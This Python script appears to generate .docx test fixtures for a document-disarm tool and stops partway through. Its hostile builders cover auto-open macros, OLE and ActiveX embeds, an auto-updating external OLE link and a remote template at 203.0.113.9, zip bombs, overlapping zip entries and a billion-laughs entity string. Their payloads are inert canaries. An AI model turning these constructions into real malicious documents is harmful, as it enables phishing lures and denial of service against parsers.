#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes Word files for the tests into a folder: good ones in good/, hostile ones in bad/.

    tools/make_docx_samples.py FOLDER [STAMP]

Everything is made here; nothing is taken from another program's files. Each bad file has one
trait. CANARY-nnnn-XXXX words stand where no output may ever carry them from; canaries.txt lists
them. want.txt says for every file what disarm must answer: OK, or one of several errors.
"""
import io
import os
import struct
import sys
import warnings
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS = {
    "w": W,
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "m": "http://schemas.openxmlformats.org/officeDocument/2006/math",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "wp14": "http://schemas.microsoft.com/office/word/2010/wordprocessingDrawing",
    "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
    "w14": "http://schemas.microsoft.com/office/word/2010/wordml",
    "w15": "http://schemas.microsoft.com/office/word/2012/wordml",
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "w10": "urn:schemas-microsoft-com:office:word",
    "c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
}
STRICT = {
    NS["w"]: "http://purl.oclc.org/ooxml/wordprocessingml/main",
    NS["r"]: "http://purl.oclc.org/ooxml/officeDocument/relationships",
    NS["a"]: "http://purl.oclc.org/ooxml/drawingml/main",
    NS["pic"]: "http://purl.oclc.org/ooxml/drawingml/picture",
    NS["wp"]: "http://purl.oclc.org/ooxml/drawingml/wordprocessingDrawing",
    NS["m"]: "http://purl.oclc.org/ooxml/officeDocument/math",
    NS["c"]: "http://purl.oclc.org/ooxml/drawingml/chart",
}
REL = NS["r"] + "/"
MSREL = "http://schemas.microsoft.com/office/2006/relationships/"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
MAIN = {"docx": WML + "document.main+xml", "dotx": WML + "template.main+xml",
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"}
XMLNS = " ".join('xmlns:%s="%s"' % n for n in NS.items()) + ' mc:Ignorable="w14 w15 wp14"'
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

canaries = []


def canary(where):
    word = "CANARY-%04d-%s" % (len(canaries) + 1, where)
    canaries.append(word)
    return word


def png(width=8, height=8, rgb=(200, 40, 40), tail=b""):
    rows = b"".join(b"\0" + bytes(rgb) * width for _ in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + \
        chunk(b"tEXt", b"Comment\0" + canary("pngtext").encode()) + \
        chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + tail


def t(text):
    return '<w:t xml:space="preserve">%s</w:t>' % text


def r(text, props=""):
    return "<w:r>%s%s</w:r>" % ("<w:rPr>%s</w:rPr>" % props if props else "", t(text))


def p(*runs, props=""):
    return "<w:p>%s%s</w:p>" % ("<w:pPr>%s</w:pPr>" % props if props else "", "".join(runs))


def field(code, result, pieces=None):
    """A complex field; its code may be cut into pieces over several runs."""
    pieces = pieces or [code]
    return '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + \
        "".join('<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % s for s in pieces) + \
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>%s<w:r><w:fldChar w:fldCharType="end"/></w:r>' % result


def drawing(rid, number=1, cx=914400, cy=914400, extra=""):
    return ('<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="%d" cy="%d"/>'
            '<wp:docPr id="%d" name="図 %d" descr="説明"/><wp:cNvGraphicFramePr/><a:graphic>'
            '<a:graphicData uri="%s"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="%s"%s/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
            '<a:off x="0" y="0"/><a:ext cx="%d" cy="%d"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
            '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>') % (
                cx, cy, number, number, NS["pic"], rid, extra, cx, cy)


STYLES = ('<w:styles %s><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Century" w:eastAsia="ＭＳ 明朝" '
          'w:hAnsi="Century" w:cs="Times New Roman"/><w:sz w:val="21"/><w:lang w:val="en-US" w:eastAsia="ja-JP"/></w:rPr>'
          '</w:rPrDefault></w:docDefaults>'
          '<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:name w:val="Normal"/><w:qFormat/></w:style>'
          '<w:style w:type="paragraph" w:styleId="1"><w:name w:val="heading 1"/><w:basedOn w:val="a"/><w:next w:val="a"/>'
          '<w:pPr><w:keepNext/><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:sz w:val="28"/></w:rPr></w:style>'
          '<w:style w:type="character" w:default="1" w:styleId="a0"><w:name w:val="Default Paragraph Font"/></w:style>'
          '<w:style w:type="table" w:default="1" w:styleId="a1"><w:name w:val="Normal Table"/><w:tblPr><w:tblInd w:w="0" '
          'w:type="dxa"/><w:tblCellMar><w:left w:w="108" w:type="dxa"/><w:right w:w="108" w:type="dxa"/></w:tblCellMar></w:tblPr></w:style>'
          '</w:styles>') % XMLNS
NUMBERING = ('<w:numbering %s><w:abstractNum w:abstractNumId="0"><w:multiLevelType w:val="multilevel"/>'
             '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="第%%1条"/><w:lvlJc w:val="left"/>'
             '<w:pPr><w:ind w:left="420" w:hanging="420"/></w:pPr></w:lvl>'
             '<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="aiueoFullWidth"/><w:lvlText w:val="(%%2)"/><w:lvlJc w:val="left"/></w:lvl>'
             '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>') % XMLNS
SECT = ('<w:sectPr>%s<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1985" w:right="1701" w:bottom="1701" w:left="1701" '
        'w:header="851" w:footer="992" w:gutter="0"/><w:cols w:space="425"/>%s<w:docGrid w:type="lines" w:linePitch="360"/></w:sectPr>')


class Doc:
    def __init__(self, ext="docx"):
        self.ext, self.parts, self.types, self.rels, self.extra = ext, {}, {}, {"": [], "word/document.xml": []}, []
        self.defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
                         "png": "image/png", "bin": "application/octet-stream"}
        self.rel("", "rId1", REL + "officeDocument", "word/document.xml")
        self.types["word/document.xml"] = MAIN[ext]
        self.part("word/styles.xml", STYLES, "styles+xml", "styles")
        self.section = ("", "")

    def rel(self, source, rid, kind, target, external=False):
        self.rels.setdefault(source, []).append((rid, kind, target, external))

    def part(self, name, data, kind=None, relation=None, rid=None, source="word/document.xml"):
        if isinstance(data, str) and not data.startswith("<?xml") and not data.startswith("\ufeff"):
            data = HEAD + data
        self.parts[name] = data if isinstance(data, bytes) else data.encode()
        if kind:
            self.types[name] = WML + kind if "/" not in kind else kind
        if relation:
            target = name[5:] if source and name.startswith("word/") else ("/" if source else "") + name
            self.rel(source, rid or "r%d" % len(self.rels.setdefault(source, [])),
                     relation if ":" in relation else REL + relation, target)
        return self

    def body(self, *blocks):
        self.part("word/document.xml", "<w:document %s><w:body>%s%s</w:body></w:document>" % (
            XMLNS, "".join(blocks), SECT % self.section))
        return self

    def members(self):
        types = HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' + \
            "".join('<Default Extension="%s" ContentType="%s"/>' % d for d in self.defaults.items()) + \
            "".join('<Override PartName="/%s" ContentType="%s"/>' % o for o in self.types.items()) + "</Types>"
        yield "[Content_Types].xml", types.encode()
        for source, rows in self.rels.items():
            if rows:
                folder, _, name = source.rpartition("/")
                yield (folder + "/" if folder else "") + "_rels/" + name + ".rels", (
                    HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
                    "".join('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
                        rid, kind, target.replace("&", "&amp;"), ' TargetMode="External"' if ext else "")
                        for rid, kind, target, ext in rows) + "</Relationships>").encode()
        for name, data in self.parts.items():
            yield name, data

    def bytes(self, compression=zipfile.ZIP_DEFLATED, comment=b""):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", compression) as z:
            for name, data in list(self.members()) + self.extra:
                z.writestr(zipfile.ZipInfo(name, (2026, 11, 21, 0, 0, 0)), data, compression)
            z.comment = comment
        return out.getvalue()

    def strict(self):
        def swap(data):
            text = data.decode()
            for old, new in STRICT.items():
                text = text.replace('"%s"' % old, '"%s"' % new).replace('"%s/' % old, '"%s/' % new)
            return text.encode()
        self.parts = {n: swap(d) if n.endswith(".xml") else d for n, d in self.parts.items()}
        self.rels = {s: [(i, k.replace(NS["r"], STRICT[NS["r"]]), t_, e) for i, k, t_, e in rows]
                     for s, rows in self.rels.items()}
        return self


def header_footer(kind, content):
    return "<w:%s %s>%s</w:%s>" % (kind, XMLNS, content, kind)


def notes(kind, one, text):
    ref = '<w:r><w:%sRef/></w:r>' % one
    return ('<w:%s %s><w:%s w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:%s>'
            '<w:%s w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:%s>'
            '<w:%s w:id="1">%s</w:%s></w:%s>') % (kind, XMLNS, one, one, one, one, one, p(ref, r(text)), one, kind)


def table():
    def cell(text, width, props=""):
        return '<w:tc><w:tcPr><w:tcW w:w="%d" w:type="dxa"/>%s</w:tcPr>%s</w:tc>' % (width, props, p(r(text)))
    row1 = "<w:tr>%s%s</w:tr>" % (cell("所属", 2000), cell("職員番号", 3000, '<w:gridSpan w:val="2"/>'))
    row2 = "<w:tr>%s%s%s</w:tr>" % (cell("総務課", 2000, '<w:vMerge w:val="restart"/>'), cell("１２３", 1500), cell("〇", 1500))
    row3 = "<w:tr>%s%s%s</w:tr>" % (cell("", 2000, "<w:vMerge/>"), cell("４５６", 1500), cell("×", 1500))
    border = "".join('<w:%s w:val="single" w:sz="4" w:space="0" w:color="auto"/>' % s
                     for s in ("top", "left", "bottom", "right", "insideH", "insideV"))
    return ('<w:tbl><w:tblPr><w:tblW w:w="5000" w:type="dxa"/><w:tblBorders>%s</w:tblBorders><w:tblLook w:val="04A0"/></w:tblPr>'
            '<w:tblGrid><w:gridCol w:w="2000"/><w:gridCol w:w="1500"/><w:gridCol w:w="1500"/></w:tblGrid>%s</w:tbl>') % (
                border, row1 + row2 + row3)


RUBY = ('<w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/><w:hps w:val="10"/><w:hpsRaise w:val="18"/>'
        '<w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/></w:rubyPr><w:rt><w:r><w:rPr><w:sz w:val="10"/></w:rPr><w:t>せきしょ</w:t></w:r></w:rt>'
        '<w:rubyBase><w:r><w:t>関所</w:t></w:r></w:rubyBase></w:ruby></w:r>')
TEXTBOX = ('<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
           '<wp:extent cx="1800000" cy="720000"/><wp:docPr id="9" name="テキスト ボックス 1"/><wp:cNvGraphicFramePr/><a:graphic>'
           '<a:graphicData uri="%s"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="720000"/>'
           '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></wps:spPr>'
           '<wps:txbx><w:txbxContent><w:p><w:r><w:t>枠の中の文章</w:t></w:r></w:p></w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>'
           '</a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape style="width:100pt;height:50pt">'
           '<v:textbox><w:txbxContent><w:p><w:r><w:t>枠の中の文章</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>'
           '</mc:Fallback></mc:AlternateContent></w:r>') % NS["wps"]
VMLBOX = ('<w:r><w:pict><v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"/>'
          '<v:shape id="s1" type="#_x0000_t202" style="position:absolute;margin-left:10pt;margin-top:20pt;width:120pt;height:40pt;z-index:1" '
          'fillcolor="#ffffcc"><v:textbox style="mso-fit-shape-to-text:t"><w:txbxContent><w:p><w:r><w:t>旧形式の枠</w:t></w:r></w:p>'
          '</w:txbxContent></v:textbox><w10:wrap type="square"/></v:shape></w:pict></w:r>')


def good_everything(ext="docx"):
    d = Doc(ext)
    d.section = ('<w:headerReference w:type="default" r:id="rIdH"/><w:footerReference w:type="default" r:id="rIdF"/>', "")
    d.part("word/numbering.xml", NUMBERING, "numbering+xml", "numbering")
    d.part("word/header1.xml", header_footer("hdr", p(r("起案用紙"))), "header+xml", "header", "rIdH")
    d.part("word/footer1.xml", header_footer("ftr", p(field(" PAGE ", r("1")), r(" / "), '<w:fldSimple w:instr=" NUMPAGES \\* MERGEFORMAT ">%s</w:fldSimple>' % r("3"))),
           "footer+xml", "footer", "rIdF")
    d.part("word/footnotes.xml", notes("footnotes", "footnote", "脚注の文章"), "footnotes+xml", "footnotes")
    d.part("word/endnotes.xml", notes("endnotes", "endnote", "文末脚注の文章"), "endnotes+xml", "endnotes")
    d.part("word/comments.xml", '<w:comments %s><w:comment w:id="5" w:author="関所 太郎" w:date="2026-11-20T09:00:00Z" w:initials="関">%s</w:comment></w:comments>' % (
        XMLNS, p(r("確認してください"))), "comments+xml", "comments")
    d.part("word/settings.xml", '<w:settings %s><w:zoom w:percent="100"/><w:defaultTabStop w:val="840"/><w:evenAndOddHeaders w:val="0"/>'
           '<w:characterSpacingControl w:val="compressPunctuation"/><w:rsids><w:rsidRoot w:val="00AB12CD"/></w:rsids></w:settings>' % XMLNS,
           "settings+xml", "settings")
    d.part("word/fontTable.xml", '<w:fonts %s><w:font w:name="ＭＳ 明朝"><w:altName w:val="MS Mincho"/><w:panose1 w:val="02020609040205080304"/>'
           '<w:charset w:val="80"/><w:family w:val="roman"/><w:pitch w:val="fixed"/></w:font></w:fonts>' % XMLNS, "fontTable+xml", "fontTable")
    d.part("word/media/image1.png", png(), None, "image", "rIdP")
    d.rel("word/document.xml", "rIdL", REL + "hyperlink", "https://www.example.lg.jp/関所?a=1&b=2#top", True)
    d.body(
        p(r("関所の見本"), props='<w:pStyle w:val="1"/>'),
        p(RUBY, r("を通る"), '<w:r><w:rPr><w:eastAsianLayout w:id="1" w:vert="1" w:vertCompress="1"/></w:rPr><w:t>12</w:t></w:r>', r("月")),
        p(r("取り扱いは"), '<w:hyperlink r:id="rIdL" w:history="1">%s</w:hyperlink>' % r("こちら", '<w:color w:val="0563C1"/><w:u w:val="single"/>'), r("を参照。")),
        p('<w:bookmarkStart w:id="0" w:name="_Toc1"/>', r("目的"), '<w:bookmarkEnd w:id="0"/>',
          props='<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'),
        p(r("範囲"), props='<w:numPr><w:ilvl w:val="1"/><w:numId w:val="1"/></w:numPr>'),
        p('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" \\h \\z \\u </w:instrText></w:r>'
          '<w:r><w:fldChar w:fldCharType="separate"/></w:r>', '<w:hyperlink w:anchor="_Toc1">%s%s</w:hyperlink>' % (r("目的\t"), field(" PAGEREF _Toc1 \\h ", r("1"))),
          '<w:r><w:fldChar w:fldCharType="end"/></w:r>'),
        table(),
        p(r("脚注"), '<w:r><w:footnoteReference w:id="1"/></w:r>', r("と文末脚注"), '<w:r><w:endnoteReference w:id="1"/></w:r>'),
        p('<w:commentRangeStart w:id="5"/>', r("コメント付き"), '<w:commentRangeEnd w:id="5"/><w:r><w:commentReference w:id="5"/></w:r>'),
        p('<w:ins w:id="10" w:author="関所 花子" w:date="2026-11-20T10:00:00Z">%s</w:ins>' % r("追加した文字"),
          '<w:del w:id="11" w:author="関所 花子" w:date="2026-11-20T10:00:00Z"><w:r><w:delText>消した文字</w:delText></w:r></w:del>'),
        p(drawing("rIdP")), p(TEXTBOX), p(VMLBOX),
        p(r("隠し文字", "<w:vanish/>"), r("見える文字")),
        p('<w:sdt><w:sdtPr><w:alias w:val="日付"/><w:tag w:val="date"/><w:id w:val="123456"/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>' % r("令和8年11月21日")),
        p('<m:oMath><m:r><m:t>x=1</m:t></m:r></m:oMath>'),
    )
    return d


def good_vertical():
    d = Doc()
    d.section = ("", '<w:textDirection w:val="tbRl"/>')
    return d.body(p(r("縦書きの文書。")), p(RUBY), p(r("第二段落")))


def group(style, text, wrap=""):
    return ('<w:r><w:pict><v:group style="%s" coordorigin="1000,2000" coordsize="4000,2000"><v:shape type="#_x0000_t202" '
            'style="position:absolute;left:2000;top:2500;width:1000;height:1000"><v:textbox><w:txbxContent><w:p><w:r><w:t>%s</w:t></w:r></w:p>'
            '</w:txbxContent></v:textbox></v:shape>%s</v:group></w:pict></w:r>') % (style, text, wrap)


def good_grouped():
    """Boxes in groups of the old kind: one that stands in the line, one that floats and says how text goes around it."""
    return Doc().body(p(group("width:200pt;height:100pt", "行の中の枠"), r("その後")),
                      p(group("position:absolute;margin-left:10pt;margin-top:5pt;width:200pt;height:100pt;mso-position-horizontal-relative:page",
                              "浮いた枠", '<w10:wrap type="square"/>'), r("周りの文")))


COMMENT, NUMBER = "先方には出さないこと", "123456789018"


def checked(comment=True, number=True):
    """What 送付前点検 asks about: a comment, a personal number with its check digit and its context."""
    d = Doc()
    if comment:
        d.part("word/comments.xml", '<w:comments %s><w:comment w:id="5" w:author="関所 太郎" w:date="2026-11-20T09:00:00Z" w:initials="関">%s'
               '</w:comment></w:comments>' % (XMLNS, p(r(COMMENT))), "comments+xml", "comments")
    first = ['<w:commentRangeStart w:id="5"/>'] if comment else []
    last = ['<w:commentRangeEnd w:id="5"/><w:r><w:commentReference w:id="5"/></w:r>'] if comment else []
    d.body(p(*first, r("設計照会への回答"), *last), p(r("個人番号 " + NUMBER if number else "番号はありません")))
    return d


def good_plain(text="本文だけの文書。"):
    return Doc().body(p(r(text)))


def good_dotted():
    """Out of order, redundant and odd things that Word itself accepts."""
    d = Doc()
    d.body('<w:p><w:pPr><w:jc w:val="center"/><w:keepNext/><w:pStyle w:val="a"/></w:pPr>'
           '<w:r><w:rPr><w:sz w:val="24"/><w:b/><w:i w:val="on"/></w:rPr>%s</w:r><w:proofErr w:type="spellStart"/></w:p>' % t("順序の違う属性"),
           "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>", '<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CD"/>',
           p('<w:smartTag w:uri="x" w:element="y">%s</w:smartTag>' % r("札の中")),
           p('<w:customXml w:uri="x" w:element="y">%s</w:customXml>' % r("独自要素の中")),
           p(r("12.5ポイント", '<w:sz w:val="12.5pt"/>'), props='<w:ind w:left="1cm" w:right="-5%"/>'))
    return d


def with_body(*blocks, ext="docx"):
    return Doc(ext).body(*blocks)


def macro(ext="docm"):
    d = Doc(ext)
    d.types["word/vbaProject.bin"] = "application/vnd.ms-office.vbaProject"
    d.part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + canary("vba").encode() * 40, None, MSREL + "vbaProject")
    d.part("word/_rels/x", b"")
    d.parts.pop("word/_rels/x")
    d.part("word/vbaData.xml", '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>',
           None, MSREL + "wordVbaData", source="word/vbaProject.bin")
    return d.body(p(r("マクロ付き文書")))


def ole():
    d = Doc()
    d.part("word/embeddings/oleObject1.bin", canary("ole").encode() * 20, None, "oleObject", "rIdO")
    d.part("word/media/image1.png", png(), None, "image", "rIdI")
    return d.body(p('<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" style="width:72pt;height:72pt" o:ole="">'
                    '<v:imagedata r:id="rIdI" o:title="表"/></v:shape><o:OLEObject Type="Embed" ProgID="Equation.3" ShapeID="_x0000_i1025" '
                    'DrawAspect="Content" ObjectID="_1" r:id="rIdO"/></w:object></w:r>', r("オブジェクトの後")))


def ole_link():
    d = Doc()
    d.rel("word/document.xml", "rIdO", REL + "oleObject", "http://203.0.113.9/%s.html!" % canary("olelink"), True)
    return d.body(p('<w:r><w:object><v:shape style="width:72pt;height:72pt"/><o:OLEObject Type="Link" ProgID="htmlfile" '
                    'r:id="rIdO" UpdateMode="Always"/></w:object></w:r>', r("外部オブジェクトの後")))


def activex():
    d = Doc()
    d.part("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{00000000-0000-0000-0000-000000000001}" ax:persistence="persistStreamInit"/>',
           "application/vnd.ms-office.activeX+xml", "control", "rIdC")
    d.part("word/activeX/activeX1.bin", canary("activex").encode(), None, MSREL + "activeXControlBinary", source="word/activeX/activeX1.xml")
    d.part("word/media/image1.png", png(), None, "image", "rIdI")
    return d.body(p('<w:r><w:object><v:shape style="width:72pt;height:24pt"><v:imagedata r:id="rIdI"/></v:shape>'
                    '<w:control r:id="rIdC" w:name="CommandButton1" w:shapeid="_x0000_i1025"/></w:object></w:r>', r("部品の後")))


def external_image():
    d = Doc()
    d.rel("word/document.xml", "rIdE", REL + "image", "http://203.0.113.9/%s.png" % canary("extimage"), True)
    return d.body(p('<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="%s">'
                    '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdE"/></pic:blipFill>'
                    '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>' % NS["pic"], r("外部画像の後")))


def metadata():
    d = Doc()
    core = ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
            + "".join("<%s>%s</%s>" % (n, canary(n.replace(":", "-")), n) for n in
                      ("dc:creator", "dc:title", "dc:subject", "dc:description", "cp:keywords", "cp:lastModifiedBy", "cp:category", "cp:contentStatus"))
            + "</cp:coreProperties>")
    app = '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">' + "".join(
        "<%s>%s</%s>" % (n, canary(n), n) for n in ("Company", "Manager", "HyperlinkBase", "Template", "Application")) + "</Properties>"
    d.part("docProps/core.xml", core, "application/vnd.openxmlformats-package.core-properties+xml", PKG + "metadata/core-properties", source="")
    d.part("docProps/app.xml", app, "application/vnd.openxmlformats-officedocument.extended-properties+xml", "extended-properties", source="")
    d.part("docProps/custom.xml", '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="%s"/></Properties>'
           % canary("custom"), "application/vnd.openxmlformats-officedocument.custom-properties+xml", "custom-properties", source="")
    d.part("docProps/thumbnail.jpeg", b"\xff\xd8\xff" + canary("thumbnail").encode(), "image/jpeg", PKG + "metadata/thumbnail", source="")
    d.part("customXml/item1.xml", "<x>%s</x>" % canary("customxml"), None, "customXml")
    d.part("word/people.xml", '<w15:people xmlns:w15="%s"><w15:person w15:author="%s"/></w15:people>' % (NS["w15"], canary("people")),
           None, "http://schemas.microsoft.com/office/2011/relationships/people")
    d.part("word/webSettings.xml", '<w:webSettings %s><!-- %s --></w:webSettings>' % (XMLNS, canary("websettings")), None, "webSettings")
    d.part("word/printerSettings1.bin", canary("printer").encode(), None, "printerSettings")
    d.part("word/fonts/font1.odttf", canary("font").encode(), None)
    d.part("word/fontTable.xml", '<w:fonts %s><w:font w:name="X"><w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font></w:fonts>' % XMLNS, None, "fontTable")
    d.rel("word/fontTable.xml", "rId1", REL + "font", "fonts/font1.odttf")
    d.part("word/glossary/document.xml", '<w:glossaryDocument %s><w:docParts><w:docPart><w:docPartBody>%s</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>'
           % (XMLNS, p(r(canary("glossary")))), None, "glossaryDocument")
    d.part("word/settings.xml", '<w:settings %s><w:rsids><w:rsidRoot w:val="00CA4A21"/></w:rsids><w:docVars><w:docVar w:name="%s" w:val="%s"/></w:docVars>'
           '<w:attachedTemplate r:id="rId1"/></w:settings>' % (XMLNS, canary("docvar"), canary("docvar")), None, "settings")
    d.rel("word/settings.xml", "rId1", REL + "attachedTemplate", "http://203.0.113.9/%s.dotm" % canary("template"), True)
    d.part("_xmlsignatures/origin.sigs", canary("signature").encode(), None, PKG + "digital-signature/origin", source="")
    d.extra.append(("word/unreached.xml", canary("unreached").encode()))
    d.body("<!-- %s --><?pi %s?>" % (canary("comment"), canary("pi")),
           '<w:p w:rsidR="00CA4A21" w:%s="1"><w:x xmlns:w="urn:x" y="%s">%s</w:x>%s</w:p>' % (
               "unknown", canary("unknownattr"), canary("unknownelement"), r("属性情報の多い文書")),
           p(field(' DOCVARIABLE "%s" ' % canary("docvariable"), r("変数の結果"))))
    data = d.bytes(comment=canary("zipcomment").encode())
    return data + canary("tail").encode()


def gap(data, text):
    """Moves everything behind the first member and puts bytes between the two."""
    first = data.index(b"PK\x03\x04", 4)
    shift = len(text)
    end = data.rindex(b"PK\x05\x06")
    n, size, at = struct.unpack("<HII", data[end + 10:end + 20])
    out = bytearray(data[:first] + text + data[first:])
    pos = at + shift
    for _ in range(n):
        name, extra, comment = struct.unpack("<HHH", out[pos + 28:pos + 34])
        offset, = struct.unpack("<I", out[pos + 42:pos + 46])
        if offset >= first:
            out[pos + 42:pos + 46] = struct.pack("<I", offset + shift)
        pos += 46 + name + extra + comment
    out[end + shift + 16:end + shift + 20] = struct.pack("<I", at + shift)
    return bytes(out)


def overlap():
    """Two central entries for the same bytes."""
    d = good_plain()
    data = bytearray(d.bytes(zipfile.ZIP_STORED))
    end = data.rindex(b"PK\x05\x06")
    n, size, at = struct.unpack("<HII", data[end + 10:end + 20])
    name, extra, comment = struct.unpack("<HHH", data[at + 28:at + 34])
    one = bytes(data[at:at + 46 + name + extra + comment])
    rest = bytes(data[at:end])
    copy = bytearray(one)
    copy[46] = ord("X")
    tail = bytearray(data[end:])
    tail[8:16] = struct.pack("<HHI", n + 1, n + 1, len(rest) + len(copy))
    return bytes(data[:at]) + rest + bytes(copy) + bytes(tail)


def ratio_bomb(claim=None):
    d = good_plain()
    d.part("word/styles.xml", b"<w:styles>" + b" " * (64 << 20) + b"</w:styles>")
    return d.bytes()


def quine():
    """A package inside the package, four deep, each the only content of the other."""
    data = good_plain().bytes()
    for _ in range(4):
        d = good_plain()
        d.part("word/embeddings/package.docx", data, None, "package")
        data = d.bytes()
    return data


def duplicate(name1, name2):
    d = good_plain()
    d.extra += [(name1, b"one"), (name2, b"two")]
    return d.bytes()


def ole_file(*streams):
    """Just enough of a compound file to be recognised: header, FAT, directory with these names."""
    sector = 512
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + b"\0" * 6 + \
        struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xfffffffe, 0, 0xfffffffe, 0)
    head += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    fat = struct.pack("<II", 0xfffffffd, 0xfffffffe) + b"\xff" * (sector - 8)
    directory = b""
    for i, name in enumerate(("Root Entry",) + streams):
        raw = name.encode("utf-16-le")
        directory += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, 5 if i == 0 else 2, 1) + b"\xff" * 12 + b"\0" * 48
    return head + fat + directory.ljust(sector, b"\0")


def nested(n, open_, close, inner):
    return open_ * n + inner + close * n


def deep_fields(n):
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
    return p(begin * n + r("深い") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * n)


def xxe(doctype, body="&x;"):
    d = Doc()
    d.part("word/document.xml", '<?xml version="1.0"?>%s<w:document %s><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>' % (doctype, XMLNS, body))
    return d


BILLION = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join('<!ENTITY %s "%s">' % (chr(98 + i), "&%s;" % chr(97 + i) * 10) for i in range(9)) + "]>"


def samples():
    good, bad = {}, {}
    for ext in MAIN:
